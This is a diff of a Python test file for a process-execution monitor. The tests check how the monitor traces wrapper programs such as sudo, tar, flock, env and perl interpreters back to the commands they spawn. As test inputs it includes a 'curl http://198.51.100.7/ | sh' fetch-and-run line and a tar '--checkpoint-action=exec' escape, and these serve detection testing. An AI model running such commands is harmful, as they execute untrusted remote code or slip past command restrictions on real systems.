@@ -66,7 +66,7 @@ def test_row(row: list[str]) -> None:
     assert ",".join(proxy.chain) == chain
     assert proxy.kind == wanted[0]
     for part in wanted[1:]:
-        name, _, value = part.partition("=")
+        name, _, value = part.replace("\\n", "\n").partition("=")
         got = getattr(proxy, name)
         assert (" ".join(got) if name == "argv" else got) == value
 
@@ -98,7 +98,16 @@ def test_wrappers_that_exec() -> None:
         ("xargs -n1 id", "id a", ("xargs",)),
         ("tar cf x y --checkpoint-action=exec=/tmp/x", "/tmp/x", ("tar",)),
         ("bash -c 'id | tee /tmp/x'", "tee /tmp/x", ("bash",)),
-        ("bash -c 'id | tee /tmp/x'", "ls", ()),
+        ("bash -c 'id | tee /tmp/x'", "ls", ("bash",)),
+        ("bash /tmp/x.sh", "ls", ()),
+        ("less /tmp/x", "sh", ("less",)),
+        ("ls", "sh", ()),
+        ("python3", "sh", ("python3",)),
+        ("python3 /tmp/x.py", "sh", ()),
+        ("bash", "ls", ()),
+        ("flock /tmp/l -c 'id -u'", "sh -c 'id -u'", ("flock", "sh")),
+        ("sudo --unknown val id", "id", ("sudo",)),
+        ("apt-get install x", "dpkg --configure x", ()),
         ("find . -name id", "id", ()),
         ("sudo -u root sh -c 'ls; id'", "sh -c 'ls; id'", ("sudo", "sh")),
     ],
@@ -108,6 +117,47 @@ def test_helpers_that_fork(parent: str, child: str, chain: tuple[str, ...]) -> N
     execs.run(shlex.split(parent), pid=7)
     execs.fork(8, 7)
     assert chain_of(execs.run(shlex.split(child), pid=8, parent=7)) == chain
+
+
+def test_forks_between() -> None:
+    """sudo forks a monitor, which forks what runs the command."""
+    execs = Execs()
+    execs.run(["sudo", "id"], pid=7)
+    execs.fork(8, 7)
+    execs.fork(9, 8)
+    assert chain_of(execs.run(["id"], pid=9, parent=8)) == ("sudo",)
+
+
+def test_the_end_of_a_pipe() -> None:
+    execs = Execs()
+    execs.run(["bash", "-c", "curl http://198.51.100.7/ | sh"], pid=7)
+    execs.fork(8, 7)
+    shell = execs.run(["sh"], pid=8, parent=7)
+    assert shell is not None
+    assert (shell.chain, shell.kind, shell.url) == (("bash", "sh"), "pipe", "http://198.51.100.7/")
+    execs.fork(9, 8)
+    assert chain_of(execs.run(["anything"], pid=9, parent=8)) == ("bash", "sh")
+
+
+def test_an_exec_by_a_wrapper_itself_has_any_name() -> None:
+    execs = Execs()
+    execs.run(["env", "editor"], pid=7)
+    assert chain_of(execs.run(["payload.bin"], pid=7)) == ("env",)
+    assert chain_of(execs.run(["other"], pid=7)) == ()
+
+
+@pytest.mark.parametrize(
+    ("interpreter", "script", "argv", "chain"),
+    [
+        ("perl", "/usr/bin/parallel", ["perl", "/usr/bin/parallel", "sh", "-c", "id"], ("parallel", "sh")),
+        ("dash", "/usr/sbin/service", ["sh", "-e", "/usr/sbin/service", "../../x"], ("service",)),
+        ("perl", "/tmp/parallel", ["perl", "/tmp/parallel", "sh", "-c", "id"], ("perl",)),
+        ("dash", "/usr/bin/ldd", ["sh", "/usr/bin/ldd", "x"], ("dash",)),
+    ],
+)
+def test_a_script_that_is_a_proxy(interpreter: str, script: str, argv: list[str], chain: tuple[str, ...]) -> None:
+    proxy = Execs().run(argv, image=f"/usr/bin/{interpreter}".encode(), script=script.encode())
+    assert chain_of(proxy) == chain
 
 
 def test_another_process_of_the_same_pid_is_another() -> None:
